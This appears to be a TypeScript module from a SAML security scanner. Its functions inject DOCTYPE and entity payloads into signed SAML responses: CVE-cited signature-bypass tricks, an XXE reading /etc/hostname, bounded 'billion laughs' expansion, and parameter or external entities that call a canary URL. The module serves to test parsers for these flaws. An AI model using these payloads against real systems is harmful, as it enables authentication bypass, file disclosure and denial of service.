/** Document type declarations and the entities that they bring: text from elsewhere in a signed message. */

import type { Mutation } from '../protocol/types.ts';
import { escapeAttribute } from '../protocol/xml.ts';
import { innerOf, insertAt } from '../protocol/xml-text.ts';
import { first } from './elements.ts';
import { withNameIdContent } from './victim.ts';

/** Puts a declaration without a subset before the root element. */
export function emptyDoctype(): Mutation {
  return { afterSigning: (xml) => withDoctype(xml) };
}

/** The NameID is written as an internal entity that stands for the very text that was signed. */
export function nameIdAsEntity(): Mutation {
  return {
    afterSigning: (xml) => {
      const content = innerOf(xml, first(xml, 'NameID'));
      return withDoctype(withNameIdContent(xml, '&who;'), `<!ENTITY who "${content.replaceAll('&', '&#38;')}">`);
    },
  };
}

/** The ID of the signed element is written as an internal entity (CVE-2025-23369). */
export function idAsEntity(): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const id = (facts.plan.signing.response ? facts.plan.id : facts.plan.assertions[0]?.id) ?? '';
      return withDoctype(xml.replace(` ID="${id}"`, ' ID="&id;"'), `<!ENTITY id "${id}">`);
    },
  };
}

/** The subset declares default attributes for elements of the message (CVE-2025-25292). */
export function attributeDefaults(): Mutation {
  return { afterSigning: (xml) => withDoctype(xml, '<!ATTLIST NameID Format CDATA #IMPLIED samlproof CDATA "x">') };
}

/** Quotes inside quotes: what ends the declaration for one parser goes on for another (CVE-2025-25291). */
export function oddlyQuotedDoctype(): Mutation {
  return {
    afterSigning: (xml) =>
      withDoctype(xml, `<!ENTITY one "'"><!ENTITY two '"'><!ENTITY three "]'>"><!ENTITY four ']">'>`),
  };
}

/** An external entity that names a file which every server has stands behind the signed text of the NameID. */
export function nameIdWithFileEntity(): Mutation {
  return {
    afterSigning: (xml) => {
      const behindText = insertAt(xml, first(xml, 'NameID').closeStart, '&near;');
      return withDoctype(behindText, '<!ENTITY near SYSTEM "file:///etc/hostname">');
    },
  };
}

/** Entities of entities, ten of each, that would be ten million characters: the bound that we set ourselves. */
export function nestedEntities(): Mutation {
  const levels = [1, 2, 3, 4, 5, 6].map((level) => `<!ENTITY l${level} "${`&l${level - 1};`.repeat(10)}">`);
  return {
    afterSigning: (xml) => {
      const behindText = insertAt(xml, first(xml, 'NameID').closeStart, '&l6;');
      return withDoctype(behindText, `<!ENTITY l0 "lol lol lo">${levels.join('')}`);
    },
  };
}

/** One entity of a hundred thousand characters, a hundred times: no nesting that a limit of levels would notice. */
export function repeatedEntity(): Mutation {
  return {
    afterSigning: (xml) => {
      const behindText = insertAt(xml, first(xml, 'NameID').closeStart, '&long;'.repeat(100));
      return withDoctype(behindText, `<!ENTITY long "${'x'.repeat(100_000)}">`);
    },
  };
}

/** A parameter entity that names the canary: parsers load it while they read the subset, used or not. */
export function parameterEntity(): Mutation {
  return { afterSigning: (xml, { canaryUrl }) => withDoctype(xml, farParameter(canaryUrl)) };
}

/** The subset is said to stand at the canary. */
export function externalSubset(): Mutation {
  return { afterSigning: (xml, { canaryUrl }) => withDoctype(xml, '', ` SYSTEM "${escapeAttribute(canaryUrl)}"`) };
}

/** Both of these, as the text in front of an assertion that is encrypted. */
export function doctypeOfCanary(canaryUrl: string): string {
  return `<!DOCTYPE Assertion SYSTEM "${escapeAttribute(canaryUrl)}" [${farParameter(canaryUrl)}]>`;
}

function farParameter(url: string): string {
  return `<!ENTITY % far SYSTEM "${escapeAttribute(url)}"> %far;`;
}

/** An external entity that names the canary stands behind the signed text of the NameID. */
export function nameIdWithExternalEntity(): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const behindText = insertAt(xml, first(xml, 'NameID').closeStart, '&far;');
      return withDoctype(behindText, `<!ENTITY far SYSTEM "${escapeAttribute(facts.canaryUrl)}">`);
    },
  };
}

/** Puts a declaration with this subset before the root element. */
export function withDoctype(xml: string, subset = '', externalId = ''): string {
  const root = first(xml, 'Response');
  return insertAt(xml, root.start, `<!DOCTYPE ${root.name}${externalId}${subset === '' ? '' : ` [${subset}]`}>`);
}
